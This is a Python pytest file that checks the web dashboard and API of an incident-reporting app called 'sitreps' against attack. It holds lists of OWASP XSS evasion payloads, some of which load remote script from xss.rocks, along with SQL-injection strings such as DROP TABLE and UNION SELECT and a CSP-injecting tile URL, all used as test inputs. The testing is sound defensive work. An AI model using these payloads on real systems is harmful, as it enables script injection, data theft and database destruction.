"""The web surface under attack: script in article text, a policy that must hold, the write
endpoint's token, SQL in every filter, and parameters and bodies too big or malformed.

The browser tests post articles carrying payloads from OWASP's XSS Filter Evasion Cheat Sheet
(in the text, the title, the outlet, the URL and the record id) to a real `sitreps serve`, open
them in Debian's chromium and require every payload to be shown as the text it is: no dialog,
no script run, no element made, no request off loopback, no CSP violation (the fixtures of
test_browser.py watch for all of these). The rest runs through the test client.
"""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient

from sitreps.errors import ConfigError
from sitreps.web import WebSettings, load_web_settings
from sitreps.web.app import MAX_REQUEST_BYTES, content_security_policy

from . import test_browser
from .conftest import build_sample_db, client_for
from .test_api import assert_error, mentions
from .test_browser import Server, Watched, free_port, load, wait_until_up

browser = test_browser.browser  # the same chromium, and the same watch for dialogs, page errors,
dashboard = test_browser.dashboard  # requests off loopback and CSP violations

TOKEN = "security-test-token"

#: From the OWASP XSS Filter Evasion Cheat Sheet: script tags, event handlers, javascript: URLs
#: in every attribute that takes one, case and whitespace tricks, encoded forms, broken markup,
#: and tags that fetch (which the loopback watch would catch).
OWASP_PAYLOADS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<a href="javascript&colon;alert(1)">link</a>',
    "%3Cscript%3Ealert('XSS')%3C/script%3E",
    "&lt;script&gt;alert('XSS')&lt;/script&gt;",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

ATTACK = (
    "Roadside bomb hits coalition supply convoy south of Baghdad\n"
    "BAGHDAD - A roadside bomb struck a convoy carrying logistical supplies for the US-led coalition on "
    "the Yusufiya road south of Baghdad on Tuesday, an Iraqi security source said. No casualties were reported.\n"
)


def payload_articles() -> list[dict[str, Any]]:
    """Three reports of one attack (so one incident shows them all), payloads in every field."""
    lines = "".join(
        f"A witness said the message read {payload} before the blast.\n" for payload in OWASP_PAYLOADS
    )
    return [
        {
            "id": f"xss-{n}-<script>alert({n})</script>",
            "outlet": outlet,
            "title": title,
            "url": url,
            "published": "2021-03-10",
            "text": ATTACK + (lines if n == 0 else f"Report number {n}.\n"),
        }
        for n, (outlet, title, url) in enumerate(
            [
                (
                    "Example <b>News</b>",
                    "Convoy hit <img src=x onerror=alert('title')>",
                    "javascript:alert('url')",
                ),
                (
                    "<svg/onload=alert('outlet')>",
                    "</title><script>alert('title2')</script>",
                    "https://news.example/a?<script>",
                ),
                (
                    '"><img src=x onerror=alert(3)>',
                    "<iframe src=javascript:alert(4)>",
                    "data:text/html,<script>alert(5)</script>",
                ),
            ]
        )
    ]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """`sitreps serve` over the sample database, with the payload articles posted through the API."""
    folder = tmp_path_factory.mktemp("security")
    db = build_sample_db(folder / "sample.db")
    port, dead_port = free_port(), free_port()
    tiles_origin = f"http://127.0.0.1:{dead_port}"
    command = [sys.executable, "-m", "sitreps", "serve", "--db", str(db), "--port", str(port)]
    command += ["--tiles", f"{tiles_origin}/{{z}}/{{x}}/{{y}}.png"]
    with (folder / "serve.log").open("w") as log:
        process = subprocess.Popen(
            command, stdout=log, stderr=subprocess.STDOUT, env={**os.environ, "SITREPS_API_TOKEN": TOKEN}
        )
    url = f"http://127.0.0.1:{port}"
    try:
        wait_until_up(url, process, folder / "serve.log")
        posted = httpx.post(
            f"{url}/api/articles",
            json=payload_articles(),
            headers={"Authorization": f"Bearer {TOKEN}"},
            timeout=60,
        )
        assert posted.status_code == 200 and posted.json()["ingested"] == 3, posted.text
        yield Server(url, tiles_origin, posted.json()["article_ids"][0])
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()


def the_incident(server: Server) -> dict[str, Any]:
    [found] = server.api("/api/incidents", text="before the blast")["items"]
    return server.api(f"/api/incidents/{found['id']}")["incident"]


# -- script in articles, in a real browser -------------------------------------------------------


@pytest.mark.browser
def test_every_owasp_payload_in_an_article_is_shown_as_text(dashboard: Watched, server: Server) -> None:
    incident = the_incident(server)
    assert len(incident["reports"]) == 3  # the three posts tell one attack
    page = load(dashboard, server, f"#incident={incident['id']}")
    page.wait_for_selector(f"#panel-body[data-incident='{incident['id']}']")
    shown = page.locator("#panel-body .article-text").all_text_contents()
    stored = [report["article"]["text"] for report in incident["reports"]]
    assert sorted(shown) == sorted(stored)  # exactly the stored text, character for character
    assert all(payload in "".join(shown) for payload in OWASP_PAYLOADS)
    made = page.evaluate(
        "() => [...document.querySelectorAll('#panel-body .article-text *')].map((e) => e.tagName)"
    )
    assert set(made) <= {"MARK"}  # only the evidence highlights the dashboard itself adds
    panel = page.text_content("#panel-body")
    for article in payload_articles():
        assert article["title"] in panel and article["outlet"] in panel
    assert page.locator("#panel-body a[href^='javascript'], #panel-body a[href^='data']").count() == 0
    hostile = "script, iframe, object, embed, base, meta, style, input, img, svg, math, details, table"
    assert page.locator(f"#panel-body :is({hostile}), #incident-rows :is({hostile})").count() == 0
    assert page.evaluate("typeof window.__xss") == "undefined"
    assert dashboard.problems == []  # no dialog, no page error, no request off loopback


@pytest.mark.browser
def test_payloads_in_the_address_bar_are_not_run(dashboard: Watched, server: Server) -> None:
    """The dashboard reads its filters from the URL fragment: they must stay values."""
    fragment = "#text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&admin1=%3Csvg%2Fonload%3Dalert(2)%3E"
    page = dashboard.page
    page.goto(f"{server.url}/{fragment}")
    page.wait_for_selector("#incident-rows", state="attached")
    page.wait_for_timeout(300)
    assert page.input_value("input[name=text]") == "<img src=x onerror=alert(1)>"
    assert page.locator("img[src=x], svg[onload]").count() == 0
    assert dashboard.problems == []


def test_api_answers_carrying_payloads_are_json_the_browser_will_not_render(server: Server) -> None:
    for path in (
        "/api/incidents?text=<script>alert(1)</script>",
        "/api/incidents?attack_type=<script>alert(1)</script>",
        "/api/<script>alert(1)</script>",
        f"/api/articles/{server.xss_article_id}",
    ):
        response = httpx.get(server.url + path, timeout=10)
        assert response.headers["content-type"].startswith("application/json"), path
        assert response.headers["x-content-type-options"] == "nosniff"


# -- the policy ----------------------------------------------------------------------------------

EXPECTED_POLICY = {
    "default-src": ["'self'"],
    "script-src": ["'self'"],
    "style-src": ["'self'"],
    "img-src": ["'self'"],
    "connect-src": ["'self'"],
    "object-src": ["'none'"],
    "base-uri": ["'none'"],
    "form-action": ["'self'"],
    "frame-ancestors": ["'none'"],
}


def directives(policy: str) -> dict[str, list[str]]:
    parsed: dict[str, list[str]] = {}
    for part in policy.split(";"):
        name, *values = part.split()
        assert name not in parsed, f"{name} twice"
        parsed[name] = values
    return parsed


@pytest.fixture(scope="module")
def gated(sample_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    """A client of a server that takes posts with the token (on a copy of the sample database)."""
    copy = tmp_path_factory.mktemp("gated") / "sample.db"
    copy.write_bytes(sample_db.read_bytes())
    with client_for(
        copy, WebSettings(api_token=TOKEN, tiles_url=""), raise_server_exceptions=False
    ) as opened:
        yield opened


def every_kind_of_answer(client: TestClient) -> list[httpx.Response]:
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    return [
        client.get("/"),
        client.get("/api/incidents"),
        client.get("/static/js/main.js"),
        client.get("/api/incidents?limit=0"),  # 400
        client.post("/api/articles", json=[{"text": "x"}]),  # 401
        client.get("/api/nothing"),  # 404
        client.delete("/api/incidents"),  # 405
        client.post("/api/articles", content=b"[" + b" " * (MAX_REQUEST_BYTES + 1), headers=bearer),  # 413
        client.post("/api/articles", json=[{"text": "Rockets hit the base."}], headers=bearer),  # 200
    ]


def test_every_answer_carries_the_strict_policy(gated: TestClient) -> None:
    answers = every_kind_of_answer(gated)
    assert [a.status_code for a in answers] == [200, 200, 200, 400, 401, 404, 405, 413, 200]
    for answer in answers:
        assert directives(answer.headers["content-security-policy"]) == EXPECTED_POLICY, answer.request.url
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["x-frame-options"] == "DENY"
        assert answer.headers["referrer-policy"] == "no-referrer"


def test_the_tile_server_adds_one_image_origin_and_nothing_else() -> None:
    policy = directives(
        content_security_policy(load_web_settings(tiles_url="https://tiles.example:8443/{z}/{x}/{y}.png"))
    )
    assert policy == {**EXPECTED_POLICY, "img-src": ["'self'", "https://tiles.example:8443"]}


@pytest.mark.parametrize(
    "tiles",
    [
        "https://tiles.example;script-src *;/{z}/{x}/{y}.png",  # a directive of its own
        "https://tiles.example 'unsafe-inline'/{z}/{x}/{y}.png",
        "https://user:secret@tiles.example/{z}/{x}/{y}.png",  # a password in every response
        "javascript:alert(1)//{z}",
    ],
)
def test_a_tile_server_that_would_bend_the_policy_is_refused(tiles: str) -> None:
    with pytest.raises(ConfigError):
        load_web_settings(tiles_url=tiles)


# -- the write endpoint's token ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Authorization": f"Basic {TOKEN}"},
        {"Authorization": f"Bearer  {TOKEN}x"},
        {"Authorization": "Bearer " + "A" * 100_000},
        {"Authorization": "Bearer ünïcödé".encode()},
        {"Cookie": f"token={TOKEN}"},
        {"X-Api-Token": TOKEN},
    ],
    ids=["none", "basic", "longer", "huge", "non-ascii", "cookie", "other header"],
)
def test_only_the_bearer_token_opens_the_write_endpoint(gated: TestClient, headers: dict[str, Any]) -> None:
    before = gated.get("/api/articles?limit=1").json()["total"]
    response = gated.post("/api/articles", json=[{"text": "Rockets hit the base at dawn."}], headers=headers)
    assert_error(response, 401, "Bearer")
    assert TOKEN not in response.text
    assert gated.get("/api/articles?limit=1").json()["total"] == before


def test_the_token_is_never_taken_from_the_address(gated: TestClient) -> None:
    response = gated.post(
        f"/api/articles?token={TOKEN}&access_token={TOKEN}", json=[{"text": "Rockets hit."}]
    )
    assert_error(response, 401)


def test_the_token_appears_in_no_answer(gated: TestClient) -> None:
    for path in ("/", "/api/openapi.json", "/api/incidents", "/api/nothing"):
        assert TOKEN not in gated.get(path).text
    assert TOKEN not in repr(WebSettings(api_token=TOKEN))


# -- SQL in every filter ----------------------------------------------------------------------------

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE incidents; --",
    "') OR ('a'='a",
    "' UNION SELECT id, data FROM articles --",
    "1; UPDATE incidents SET status='confirmed'",
    "%",
    "_",
    "%' --",
    "\\' OR 1=1 #",
    "Basra' AND SLEEP(5) --",
    "'||(SELECT text FROM articles LIMIT 1)||'",
]


@pytest.fixture(scope="module")
def everything(client: TestClient) -> list[dict[str, Any]]:
    return client.get("/api/incidents", params={"limit": 500}).json()["items"]


@pytest.mark.parametrize("needle", SQL)
@pytest.mark.parametrize("name", ["admin1", "group", "text"])
def test_sql_in_a_filter_is_only_ever_a_value(
    client: TestClient, everything: list[dict[str, Any]], name: str, needle: str
) -> None:
    response = client.get("/api/incidents", params={name: needle, "limit": 500})
    assert response.status_code == 200, response.text
    found = {item["id"] for item in response.json()["items"]}
    if name == "text":  # a literal substring, % and _ included
        details = {i["id"]: client.get(f"/api/incidents/{i['id']}").json()["incident"] for i in everything}
        assert found == {i for i, detail in details.items() if mentions(detail, needle)}
    else:
        assert found == set()  # no governorate or group is called that
    for path in ("/api/tallies/admin1", "/api/points", "/api/timeline"):
        assert client.get(path, params={name: needle}).status_code == 200


@pytest.mark.parametrize("needle", SQL)
def test_sql_in_an_id_finds_nothing(client: TestClient, needle: str) -> None:
    for path in ("/api/incidents/", "/api/articles/"):
        assert_error(client.get(path + needle.replace("/", "%2F")), 404)


@pytest.mark.parametrize(
    "name", ["attack_type", "target", "status", "sort", "date_from", "date_to", "limit", "offset"]
)
def test_sql_in_a_typed_parameter_is_a_400(client: TestClient, name: str) -> None:
    assert_error(client.get("/api/incidents", params={name: "1' OR '1'='1"}), 400, name)


def test_the_database_is_untouched_after_every_attempt(client: TestClient, sample_db: Path) -> None:
    from sitreps.store.store import open_store

    with open_store(str(sample_db)) as store:
        before = store.counts()
    for needle in SQL:
        for name in ("admin1", "group", "text", "attack_type", "sort"):
            client.get("/api/incidents", params={name: needle})
        client.get(f"/api/tallies/{needle}")
    with open_store(str(sample_db)) as store:
        assert store.counts() == before
    assert client.get("/api/incidents").json()["total"] == before["incidents"]


# -- too big, malformed ----------------------------------------------------------------------------

MALFORMED = [
    ("/api/incidents?admin1=" + "B" * 101, 400),
    ("/api/incidents?group=" + "G" * 201, 400),
    ("/api/incidents/" + "i" * 201, 400),
    ("/api/articles/" + "a" * 201, 400),
    ("/api/incidents?limit=1e3", 400),
    ("/api/incidents?limit=99999999999999999999999", 400),
    ("/api/incidents?offset=0x10", 400),
    ("/api/incidents?date_from=2021-02-30", 400),
    ("/api/incidents?date_from=99999-01-01", 400),
    ("/api/incidents?date_from=0000-00-00", 400),
    ("/api/points?limit=-1", 400),
    ("/api/tallies/" + "x" * 5000, 400),
    ("/api/incidents/abc%00def", 404),
    ("/api/articles/%ff%fe", 404),
    ("/api/incidents?text=%00", 200),
    ("/api/incidents?text=%ff%fe%fd", 200),
    ("/api/incidents?text=%zz", 200),
    ("/api/incidents?admin1=%E2%80%AEarsaB", 200),  # a right-to-left override
]


@pytest.mark.parametrize(("url", "status"), MALFORMED, ids=[u[:60] for u, _ in MALFORMED])
def test_oversized_or_malformed_parameters_get_a_4xx_never_a_crash(
    client: TestClient, url: str, status: int
) -> None:
    response = client.get(url)
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/json")


BODIES = [
    (b"[" * 100_000 + b"]" * 100_000, 400),  # deeper than any parser's stack
    (b'[{"text": "Rockets hit Basra \\ud800 on Monday."}]', 400),  # half a UTF-16 pair
    (b'[{"text": "Rockets hit Basra', 400),  # cut off
    (b"\xff\xfe\x00[", 400),  # not UTF-8
    (b'[{"text": ' + b'"x", "text": ' * 1000 + b'"y"}]', 200),  # a key a thousand times: the last wins
]


@pytest.mark.parametrize(
    ("body", "status"), BODIES, ids=["deep", "surrogate", "cut", "not utf-8", "repeated key"]
)
def test_malformed_bodies_get_a_4xx_never_a_crash(gated: TestClient, body: bytes, status: int) -> None:
    headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"}
    response = gated.post("/api/articles", content=body, headers=headers)
    assert response.status_code == status, response.text


def test_an_oversized_body_is_refused_before_it_is_read(gated: TestClient) -> None:
    """Declared or streamed, and with or without the token: no client makes the server hold it."""
    too_big = MAX_REQUEST_BYTES + 1
    assert_error(
        gated.post("/api/articles", content=b" " * too_big, headers={"Content-Type": "application/json"}), 413
    )

    def streamed() -> Iterator[bytes]:
        for _ in range(too_big // 65536 + 1):
            yield b" " * 65536

    response = gated.post("/api/articles", content=streamed(), headers={"Authorization": f"Bearer {TOKEN}"})
    assert_error(response, 413, f"{MAX_REQUEST_BYTES:,}")


def test_an_overlong_request_line_is_refused_by_the_server(server: Server) -> None:
    """200 KB of query string, sent raw (httpx itself refuses URLs over 64 KB)."""
    host, port = server.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as conn:
        conn.sendall(b"GET /api/incidents?text=" + b"x" * 200_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        answer = b""
        with contextlib.suppress(ConnectionResetError, BrokenPipeError):
            while chunk := conn.recv(65536):
                answer += chunk
    status = answer.split(b"\r\n", 1)[0]
    assert answer == b"" or status.startswith((b"HTTP/1.1 4", b"HTTP/1.0 4")), (
        status
    )  # refused, or hung up on
